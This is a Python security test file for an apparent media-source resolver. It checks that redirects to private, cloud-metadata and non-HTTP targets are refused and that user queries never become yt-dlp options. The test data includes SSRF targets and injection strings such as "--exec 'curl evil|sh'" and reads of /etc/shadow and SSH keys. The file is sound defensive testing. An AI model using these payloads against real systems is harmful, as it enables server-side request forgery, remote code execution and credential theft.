"""SSRF cases the source guard's own tests leave implicit: every kind of hostile redirect target
is refused before it is requested, and yt-dlp never receives an option derived from user input.
(Direct URLs in every spelling and DNS answers are covered in tests/unit/test_sources_ssrf.py.)"""

from __future__ import annotations

import asyncio
import contextlib
import socket
from collections.abc import Sequence
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.security.fuzzing import fuzz_settings
from voice_worker.sources import ResolverConfig, UnsafeUrl
from voice_worker.sources import resolver as resolver_module
from voice_worker.sources.redirects import follow_redirects
from voice_worker.sources.resolver import Resolver
from voice_worker.sources.ssrf import UrlPolicy
from voice_worker.sources.ytdl import build_params

STRICT = UrlPolicy(allow_private_addresses=False)
FAKE_DNS = {
    "public.example": ["93.184.216.34"],
    "rebind.example": ["10.1.2.3"],
    "mapped.example": ["::ffff:127.0.0.1"],
    "meta.example": ["169.254.169.254"],
    "v6local.example": ["fe80::1"],
}


async def fake_resolve(host: str, port: int) -> Sequence[str]:
    if host not in FAKE_DNS:
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
    return FAKE_DNS[host]


REDIRECT_TARGETS = [
    ("http://127.0.0.1/admin", "private_address"),
    ("http://127.1/", "private_address"),
    ("http://localhost:8080/", "private_address"),
    ("http://[::1]/", "private_address"),
    ("//127.0.0.1/protocol-relative", "private_address"),
    ("http://10.0.0.1/", "private_address"),
    ("http://172.16.0.1/", "private_address"),
    ("http://192.168.1.1/", "private_address"),
    ("http://100.64.0.1/", "private_address"),
    ("http://[fd00::1]/", "private_address"),
    ("http://169.254.1.1/", "private_address"),
    ("http://[fe80::1]/", "private_address"),
    ("http://169.254.169.254/latest/meta-data/", "metadata_address"),
    ("http://[fd00:ec2::254]/", "metadata_address"),
    ("http://metadata.google.internal/", "metadata_address"),
    ("http://[::ffff:127.0.0.1]/", "private_address"),
    ("http://[::ffff:169.254.169.254]/", "metadata_address"),
    ("http://[::ffff:10.0.0.1]/", "private_address"),
    ("http://rebind.example/", "private_address"),
    ("http://mapped.example/", "private_address"),
    ("http://meta.example/", "metadata_address"),
    ("http://v6local.example/", "private_address"),
    ("http://0.0.0.0/", "reserved_address"),
    ("file:///etc/passwd", "scheme"),
    ("gopher://127.0.0.1:6379/_INFO", "scheme"),
    ("ftp://public.example/a.mp3", "scheme"),
    ("http://user:pw@public.example/", "userinfo"),
]


@pytest.mark.parametrize(("location", "reason"), REDIRECT_TARGETS)
async def test_a_redirect_to_a_hostile_target_is_refused_before_the_hop(
    location: str, reason: str
) -> None:
    # GIVEN a public link that redirects to a hostile target
    requested: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        requested.append(str(request.url))
        return httpx.Response(302, headers={"location": location})

    async with httpx.AsyncClient(transport=httpx.MockTransport(answer)) as client:
        # WHEN the worker follows it THEN the hop is refused, and only the public URL was sent
        with pytest.raises(UnsafeUrl) as caught:
            await follow_redirects(
                "http://public.example/song",
                STRICT,
                client=client,
                max_redirects=5,
                resolve=fake_resolve,
            )
    assert caught.value.reason == reason
    assert requested == ["http://public.example/song"]


HOSTILE_QUERIES = st.one_of(
    st.sampled_from(
        [
            "--exec 'curl evil|sh'",
            "-o /etc/cron.d/x",
            "--load-info-json /etc/passwd",
            "--config-location /tmp/x",
            "ytsearch:--exec id",
            "--batch-file=/etc/shadow",
            "-- --cookies /root/.ssh/id_rsa",
        ]
    ),
    st.text(min_size=1, max_size=200).filter(lambda t: t.strip() != ""),
)


# Each example builds a resolver (~40 ms): capped in the long run, not one of the 100k targets.
@fuzz_settings(cap=2000)
@given(query=HOSTILE_QUERIES)
def test_yt_dlp_options_never_depend_on_the_query(query: str) -> None:
    # yt-dlp is driven through its Python API with a dict built from operator settings only:
    # the query is only ever the extraction target, never parsed as command-line options.
    calls: list[tuple[str, dict[str, Any]]] = []

    def spy(target: str, params: dict[str, Any], **kwargs: Any) -> dict[str, Any]:
        calls.append((target, params))
        return {"_type": "playlist", "entries": []}  # nothing found: only the call matters

    config = ResolverConfig(allow_private_addresses=False, timeout_s=5.0)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(resolver_module, "extract_info", spy)

        async def run() -> None:
            async with Resolver(config) as resolver:
                # Only the calls made matter here, not how the lookup ends.
                with contextlib.suppress(Exception):
                    await resolver.lookup(query)

        asyncio.run(run())
    allowed = [
        _comparable(build_params(config, flat=flat, single=single))
        for flat in (True, False)
        for single in (True, False)
    ]
    for _target, params in calls:
        assert _comparable(params) in allowed


def _comparable(params: dict[str, Any]) -> dict[str, Any]:
    return {key: value for key, value in params.items() if key != "logger"}
